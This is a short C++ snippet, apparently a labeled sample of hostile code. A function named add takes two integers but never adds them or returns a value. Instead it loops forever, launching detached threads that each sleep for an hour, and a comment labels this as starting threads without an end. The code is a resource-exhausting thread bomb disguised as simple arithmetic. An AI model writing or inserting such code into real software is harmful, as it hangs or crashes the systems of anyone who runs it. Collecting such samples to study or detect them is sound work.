// memory: starts threads without an end
#include <thread>
#include <chrono>
int add(int a, int b) {
    for (;;) std::thread([] { std::this_thread::sleep_for(std::chrono::hours(1)); }).detach();
}
